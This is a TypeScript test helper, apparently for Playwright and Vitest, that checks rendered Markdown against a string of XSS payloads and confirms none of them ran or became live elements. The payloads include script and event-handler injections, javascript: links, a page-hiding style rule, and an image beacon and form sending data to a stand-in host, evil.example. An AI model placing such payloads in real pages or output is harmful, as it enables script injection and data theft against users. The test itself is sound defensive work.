import type { Page } from 'playwright-core';
import { expect } from 'vitest';

/** All that a model might write to be run, loaded or followed. */
export const HOSTILE = `# Hello
<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 1">
<svg onload="window.pwned = 1"><a href="javascript:window.pwned=1">a</a></svg>
<style>body { display: none }</style>
<iframe src="https://evil.example/frame"></iframe>
![beacon](https://evil.example/beacon.png?secret)
![inline](data:image/svg+xml,<svg/onload=alert(1)>)
[run](javascript:window.pwned=1) [go](https://evil.example/) <https://evil.example/auto>
[ref]: javascript:window.pwned=1
[by reference][ref]
<form action="https://evil.example/"><input name=q><button>send</button></form>
| a | b |
|:-:|---|
| <b onmouseover="window.pwned=1">1</b> | \`code\` |
`;

export async function expectInert(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    pwned: Reflect.get(globalThis, 'pwned'),
    shown: getComputedStyle(document.body).display !== 'none',
    // Nothing of it became an element that could act.
    elements: [...document.querySelectorAll('script, iframe, form, style, svg, img, a')]
      // A link of ours may hold such a text in its query, where it is a value to filter by.
      .filter(
        (element) => !(element instanceof HTMLAnchorElement && element.origin === location.origin),
      )
      .map((element) => element.outerHTML)
      .filter((html) => /evil\.example|pwned|javascript:/.test(html)),
  }));
  expect(found).toEqual({ pwned: undefined, shown: true, elements: [] });
}
